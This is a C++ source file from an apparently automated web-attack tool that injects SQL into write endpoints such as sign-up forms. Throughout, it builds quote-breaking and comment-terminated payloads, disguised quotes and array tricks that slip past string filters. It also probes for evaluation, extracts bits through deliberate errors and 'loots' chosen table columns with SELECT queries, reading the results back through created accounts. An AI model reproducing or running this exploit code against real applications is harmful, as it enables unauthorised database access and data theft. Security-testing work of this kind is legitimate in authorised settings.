#include "core/attack/write_entry.h"

#include <algorithm>

#include "core/attack/entry.h"
#include "core/attack/quotes.h"
#include "core/attack/request_writer.h"
#include "core/attack/session.h"
#include "core/attack/spelling.h"
#include "core/base/random.h"

namespace parapet::attack {
namespace {

// Where text stands among VALUES: inside a concatenation, after a quote that is doubled once, or as
// the last or last but one of them.
constexpr std::string_view kTextFrames[][2] = {
    {"'||(", ")||'"}, {"''||(", ")||'"}, {"'||(", "))--"}, {"'||(", "),1)--"}, {"',(", "))--"}};
// A number's: an expression, or the columns that follow it.
constexpr std::string_view kNumberFrames[][2] = {
    {"+(", ")"}, {",(", "))--"}, {",1,(", "))--"}, {",(", "))/*-"}};

}  // namespace

WriteEntry::WriteEntry(Target& target, Endpoint const& endpoint)
    : target_(target),
      endpoint_(endpoint),
      makes_account_(endpoint.id == option_or(target, option::kSignup, "signup")) {
    sign_in_for(target, endpoint);
}

std::vector<WriteEntry::Frame> WriteEntry::frames() const {
    std::vector<Frame> frames;
    std::vector<std::size_t> texts;
    for (std::size_t i = 0; i < endpoint_.parameters.size(); ++i) {
        if (is_text(endpoint_.parameters[i]) && i != password_parameter(endpoint_))
            texts.push_back(i);
    }
    auto const add = [&](std::string const& before, std::string const& after, Quotes quotes) {
        // At sign-up in all fields at once: every account costs the app a hash.
        if (makes_account_ && !texts.empty())
            frames.push_back({texts, before, after, Dress::Plain, quotes});
        for (std::size_t i : texts)
            if (!makes_account_) frames.push_back({{i}, before, after, Dress::Plain, quotes});
    };
    add(std::string(kEveryDisguisedQuote) + "'||(", ")||'", Quotes::Every);
    for (auto const& [before, after] : kTextFrames)
        add(std::string(before), std::string(after), Quotes::Plain);
    for (std::string_view quote : kDisguisedQuotes)
        add(std::string(quote) + "||(", ")||" + std::string(quote), Quotes::Disguised);
    // What only looks at strings lets an array pass.
    for (std::size_t i : texts) frames.push_back({{i}, "'||(", ")||'", Dress::Array});
    for (std::size_t i = 0; i < endpoint_.parameters.size(); ++i) {
        if (!is_number(endpoint_.parameters[i])) continue;
        for (auto const& [before, after] : kNumberFrames)
            frames.push_back({{i}, std::string(before), std::string(after)});
    }
    return frames;
}

std::vector<attack::Frame> WriteEntry::bit_frames(Parameter const& parameter,
                                                  std::string const& start) {
    std::vector<attack::Frame> frames;
    if (is_number(parameter)) return number_error_frames(parameter.sample);
    for (auto const& [before, after] : kTextFrames)
        frames.push_back(failing(start + std::string(before) + "0*", std::string(after)));
    for (attack::Frame const& frame : text_error_frames(start)) frames.push_back(frame);
    frames.push_back(failing(start + "*/RETURNING/**/", "/*"));  // inside a comment
    return frames;
}

WriteEntry::Sent WriteEntry::send(Frame const& frame, std::string_view expression) {
    std::vector<std::string> values = samples(endpoint_);
    Account account = new_account(target_);
    std::size_t const username = username_parameter(endpoint_);
    std::size_t const password = password_parameter(endpoint_);
    if (makes_account_ && username < values.size()) values[username] = account.username;
    if (makes_account_ && password < values.size()) values[password] = account.password;
    Sent sent;
    for (std::size_t i : frame.parameters) {
        std::string const start =
            is_text(endpoint_.parameters[i]) ? random_word(target_, 8) : values[i];
        values[i] = start + frame.before + std::string(expression) + frame.after;
        sent.texts.push_back(values[i]);
    }
    if (username < values.size()) account.username = values[username];
    DressedValue const dressed{frame.parameters.front(), values[frame.parameters.front()],
                               frame.dress};
    http::Response const response =
        send_patiently(target_, write_request(endpoint_, values, dressed));
    sent.status = response.status;
    sent.shown = response.body;
    if (succeeded(response)) sent.shown += read_back(account);
    return sent;
}

std::string WriteEntry::read_back(Account const& account) {
    std::string shown;
    bool const changed = makes_account_ && sign_in(target_, account);
    if (makes_account_ && !changed) return shown;
    std::vector<Endpoint const*> showing = endpoints_option(target_, option::kReadBack, "orders");
    for (Endpoint const* each : endpoints_option(target_, option::kWhoAmI, "me"))
        showing.push_back(each);
    for (Endpoint const* each : showing)
        shown += target_.send(write_request(*each, samples(*each))).body;
    if (changed) sign_in(target_, target_.surface().attacker);
    return shown;
}

Seen WriteEntry::look(Frame const& frame, std::string_view opening, std::string_view closing) {
    std::uint64_t const sum = 2'000'000 + below(target_.random(), 7'000'000);
    std::string const expression = std::to_string(sum - 7) + "+7";
    Sent const sent = send(frame, std::string(opening) + expression + std::string(closing));
    if (sent.shown.find(std::to_string(sum)) != std::string::npos) return Seen::Value;
    bool const all_shown = std::all_of(sent.texts.begin(), sent.texts.end(), [&](auto const& text) {
        return sent.shown.find(json_string(text)) != std::string::npos;
    });
    if (all_shown) return Seen::Data;
    bool const refused = sent.status >= 400 && sent.status < 500;
    return refused ? Seen::Refused : Seen::Nothing;
}

bool WriteEntry::fails_on_purpose(Frame const& frame) {
    int const failing = send(frame, "abs(-9223372036854775807-(9>3))").status;
    if (failing < 400) return false;
    return send(frame, "abs(-9223372036854775807-(3>9))").status < 400;
}

void WriteEntry::loot(Frame const& frame, std::string_view opening, std::string_view closing) {
    auto const take = [&](std::string const& expression) {
        return send(frame, std::string(opening) + expression + std::string(closing));
    };
    // With words around the number, so that it stands alone in whatever it is put into.
    take("char(32)||(" + target_.puzzle() + ")||char(32)");
    take("(" + target_.puzzle() + ")");
    for (Column const& each : wanted_columns(target_.surface())) {
        for (Spelling const& spelling : spellings()) {
            std::string const sql = "(SELECT max(" + each.column + ") FROM " + each.table + ")";
            if (take(spelling.write(sql)).status < 400 && opening.empty()) break;
        }
    }
}

}  // namespace parapet::attack
